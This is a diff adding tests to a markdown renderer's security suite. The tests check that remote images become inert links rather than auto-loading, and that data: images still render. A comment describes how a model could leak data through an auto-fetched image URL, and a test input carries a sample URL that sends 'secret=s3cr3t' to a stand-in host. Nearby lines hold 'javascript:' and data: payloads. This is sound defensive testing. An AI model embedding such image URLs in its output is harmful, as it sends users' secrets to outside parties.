@@ -70,6 +70,25 @@ describe("renderMarkdown against script-bearing markdown", () => {
     expect(dom("[x](javascript:alert(1))").textContent).toContain("x");
   });
 
+  // Drawn, a remote image is fetched at once, with the page as Referer: a model could report back
+  // whatever it put in the URL. It is a link the person may open, and nothing is fetched by itself.
+  it("shows a remote image as a link, never as an image that loads on its own", () => {
+    const container = dom("See ![the chart](http://host/leak?secret=s3cr3t \"Chart\") and ![](https://example.com/a.png) and ![rel](a.png)");
+    expect(container.querySelector("img")).toBeNull();
+    const links = [...container.querySelectorAll("a")];
+    expect(links.map((a) => a.textContent)).toEqual(["Image: the chart", "Image: https://example.com/a.png", "Image: rel"]);
+    expect(links[0]).toHaveAttribute("href", "http://host/leak?secret=s3cr3t");
+    expect(links[0]).toHaveAttribute("rel", "noopener noreferrer nofollow");
+    expect(links[0]).toHaveAttribute("target", "_blank");
+    expect(links[0]).toHaveAttribute("title", "Chart");
+  });
+
+  it("draws a data: image, which fetches nothing", () => {
+    const container = dom("![dot](data:image/png;base64,iVBORw0KGgo=)");
+    expect(container.querySelector("img")).toHaveAttribute("src", "data:image/png;base64,iVBORw0KGgo=");
+    expect(container.querySelector("img")).toHaveAttribute("alt", "dot");
+  });
+
   it("drops a data: href on a markdown link", () => {
     const link = dom("[open](data:text/html;base64,AAAA)").querySelector("a");
     if (link) expect(link.getAttribute("href")).toBeNull();
